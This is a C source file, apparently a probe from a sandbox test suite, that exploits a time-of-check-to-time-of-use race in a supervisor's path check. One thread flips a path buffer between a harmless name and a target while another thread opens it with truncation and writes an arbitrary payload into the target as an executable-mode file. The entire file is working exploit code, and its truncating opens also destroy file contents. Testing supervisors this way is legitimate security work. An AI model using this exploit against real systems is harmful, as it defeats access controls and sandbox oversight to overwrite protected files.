/* turncoat watch probe: race the supervisor's path check (TOCTOU) and, on a win, write a
 * payload through the fd. One thread opens a path for writing (truncating) in a loop;
 * another flips the bytes of that path between a harmless name and the target.
 * usage: race_write TARGET HARMLESS PAYLOAD   (TARGET and HARMLESS the same length)
 * Prints "race_write wins=N of M", always exits 0. */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char buf[4096];
static const char *target, *harmless;
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    size_t n = strlen(target) + 1;
    while (!atomic_load(&stop)) {
        memcpy(buf, harmless, n);
        memcpy(buf, target, n);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof buf) {
        fprintf(stderr, "usage: race_write TARGET HARMLESS PAYLOAD\n"); return 2;
    }
    target = argv[1]; harmless = argv[2];
    const char *payload = argv[3];
    memcpy(buf, harmless, strlen(harmless) + 1);
    pthread_t t; pthread_create(&t, NULL, flipper, NULL);
    int wins = 0, tries = 20000;
    struct stat before, st;
    int existed = stat(target, &before) == 0;
    for (int i = 0; i < tries && !wins; i++) {
        int fd = open(buf, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd < 0) continue;
        struct stat fst;
        /* Did this fd land on the target? (same inode, or the target now exists) */
        if (fstat(fd, &fst) == 0 && stat(target, &st) == 0 && st.st_ino == fst.st_ino
            && (!existed || st.st_ino == before.st_ino)) {
            if (write(fd, payload, strlen(payload)) > 0) wins++;
        }
        close(fd);
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("race_write wins=%d of %d\n", wins, tries);
    return 0;
}
